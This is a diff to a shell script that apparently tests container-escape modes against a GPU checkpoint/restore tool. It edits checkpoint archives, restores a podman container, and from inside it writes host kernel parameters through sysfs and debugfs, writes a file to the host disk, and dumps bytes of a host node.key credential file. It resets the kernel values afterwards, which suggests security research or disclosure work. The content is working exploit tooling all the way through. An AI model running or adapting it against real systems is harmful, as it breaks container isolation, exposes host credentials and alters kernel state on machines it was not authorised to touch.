@@ -6,7 +6,7 @@ D=/var/tmp/attack30d; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/ven
 SRC=${SRC:-src.tar.zst}; cd $D
 for mode in "$@"; do
   echo "=== $mode ($(date -u +%T))"
-  rm -f $D/binfmt-ran $D/core-ran
+  rm -f $D/binfmt-ran $D/core-ran $D/disk-write
   if [ -z "${PROOF_ONLY:-}" ]; then  # import.sh restored it already
     $P $H/edit.py $SRC $mode.tar.zst $mode >/dev/null || { echo "edit failed"; continue; }
     podman rm -f -t 0 attack30d-src >/dev/null 2>&1
@@ -43,7 +43,20 @@ for mode in "$@"; do
       [ -e $D/binfmt-ran ] && echo "$(tr '\n' ' ' < $D/binfmt-ran) (this shell's mnt ns: $(readlink /proc/self/ns/mnt))" || echo "interpreter did not run"
       [ -e $D/bm/attack30d ] && echo -1 > $D/bm/attack30d && echo "entry removed"
       umount $D/bm; rmdir $D/bm;;
-    *) podman exec attack30d-src sh -c 'ls /mnt | head; grep " /mnt " /proc/self/mountinfo' 2>&1; echo "exec rc=$?";;
+    sysrw)
+      f=/sys/module/printk/parameters/always_kmsg_dump; before=$(cat $f); want=$([ $before = Y ] && echo N || echo Y)
+      podman exec attack30d-src sh -c "grep ' /sys ' /proc/self/mountinfo; echo $want > $f" 2>&1; echo "exec rc=$?"
+      now=$(cat $f); echo "host $f: before $before, now $now"; [ "$now" = $want ] && echo "HOST KERNEL STATE written from the container"
+      echo $before > $f;;
+    autoext4|overlayhost)
+      podman exec attack30d-src sh -c 'grep " /mnt " /proc/self/mountinfo; ls /mnt | head -30 | tr "\n" " "; echo; head -c 60 /mnt/etc/gpuckpt/node.key | od -c | head -2; echo attack30d-from-container > /mnt/var/tmp/attack30d/disk-write' 2>&1; echo "exec rc=$?"
+      [ -e $D/disk-write ] && echo "HOST FILE written from the container: $(ls -la $D/disk-write)";;
+    debugfs)
+      mkdir -p $D/dbg; mount -t debugfs debugfs $D/dbg; f=$D/dbg/fault_around_bytes; before=$(cat $f)
+      podman exec attack30d-src sh -c 'grep " /mnt " /proc/self/mountinfo; echo 8192 > /mnt/fault_around_bytes' 2>&1; echo "exec rc=$?"
+      now=$(cat $f); echo "host debugfs fault_around_bytes: before $before, now $now"; [ "$now" = 8192 ] && [ "$before" != 8192 ] && echo "HOST KERNEL STATE written from the container"
+      echo $before > $f; echo "put back: $(cat $f)"; umount $D/dbg; rmdir $D/dbg;;
+    *) podman exec attack30d-src sh -c 'grep " /mnt " /proc/self/mountinfo; ls /mnt | head -40 | tr "\n" " "' 2>&1; echo "exec rc=$?";;
   esac
   podman rm -f -t 0 attack30d-src >/dev/null 2>&1
 done
